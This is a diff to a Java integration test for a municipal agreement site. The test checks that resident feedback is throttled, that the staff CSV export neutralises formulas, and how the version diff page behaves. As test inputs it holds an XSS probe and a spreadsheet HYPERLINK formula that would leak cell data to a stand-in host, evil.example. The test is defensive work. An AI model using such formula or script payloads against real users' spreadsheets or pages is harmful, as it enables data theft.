@@ -184,7 +184,8 @@ class AgreementJourneyIT {
       feedback.comment("PURPOSE", "目的をもっと具体的に書いてください。<script>alert(1)</script>");
       assertTrue(feedback.messages().contains("ご意見を受け付けました"));
       feedback.comment("", "ばかげた案だ");
-      feedback.comment("INITIATIVES", "交通の取組も入れてほしい。");
+      // A formula as a resident might type it to attack the staff's Excel.
+      feedback.comment("INITIATIVES", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"交通の取組も\")");
       feedback.comment("", "四つ目の意見");
 
       assertTrue(feedback.messages().contains("10分ほどおいて"), "flooding must be throttled");
@@ -206,6 +207,8 @@ class AgreementJourneyIT {
     assertEquals((byte) 0xEF, csv.body()[0], "UTF-8 byte order mark for Excel");
     String csvText = new String(csv.body(), StandardCharsets.UTF_8);
     assertTrue(csvText.contains("誹謗中傷を含むため") && csvText.contains("目的をもっと具体的に"), csvText);
+    assertTrue(csvText.contains("\"'=HYPERLINK("), "the formula is neutralised: " + csvText);
+    assertFalse(csvText.contains(",=HYPERLINK") || csvText.contains(",\"=HYPERLINK"), csvText);
     assertEquals(
         403, Callers.as(stack, "hiranai-staff").get(page() + "/feedback.csv").statusCode());
   }
@@ -293,8 +296,14 @@ class AgreementJourneyIT {
     AgreementEditPage editor = detail.edit();
     editor.purpose("圏域の持続的な発展を目的とする。").save();
 
-    assertTrue(
-        AgreementDiffPage.open(office, AOMORI, id, 1, 2).inserted("PURPOSE").contains("持続的な"));
+    AgreementDiffPage diff = AgreementDiffPage.open(office, AOMORI, id, 1, 2);
+    assertTrue(diff.inserted("PURPOSE").contains("持続的な"));
+    assertTrue(diff.insertedAsHeard("PURPOSE").startsWith("追加："), diff.insertedAsHeard("PURPOSE"));
+    // A version is never compared with itself.
+    String itself =
+        Rendered.page(
+            Callers.as(stack, "aomori-mayor").get(page() + "/diff?from=2&to=2"), "diff-nothing");
+    assertFalse(itself.contains("class=\"diff-clause"), itself);
     assertEquals(
         404,
         publicVisitor.get(page() + "/diff?from=1&to=2").statusCode(),
